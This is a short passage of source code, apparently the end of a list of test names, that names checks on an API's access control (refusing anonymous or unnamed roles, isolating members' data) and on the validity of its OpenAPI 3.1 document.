    every_operation_refuses_anonymous_callers_and_roles_it_does_not_name,
    another_member_never_sees_a_members_data,
    the_openapi_document_is_valid_openapi_3_1,
);
